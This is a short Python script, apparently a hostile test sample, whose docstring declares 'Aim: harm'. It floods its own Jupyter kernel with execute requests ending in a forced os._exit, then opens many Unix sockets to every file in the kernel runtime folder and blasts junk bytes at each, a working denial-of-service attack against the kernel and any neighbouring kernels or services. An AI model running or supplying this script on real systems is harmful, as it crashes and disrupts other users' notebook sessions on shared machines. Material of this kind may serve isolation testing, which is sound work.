"""The kernel is a client of its own sockets, too: floods, and a request to shut down.

Aim: harm
"""

import glob
import os
import socket

from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient

path = get_connection_file()
folder = os.path.dirname(path)
client = BlockingKernelClient(connection_file=path)
client.load_connection_file()
client.start_channels()
for _ in range(500):
    client.execute("import os; os._exit(0)" if _ == 499 else "1 + 1", silent=True)
others = []
for path in glob.glob(folder + "/*"):
    for _ in range(200):
        try:
            one = socket.socket(socket.AF_UNIX)
            one.setblocking(False)
            one.connect(path)
            one.send(b"\xff" * 4096)
        except OSError:
            continue
        others.append(one)
client.shutdown()
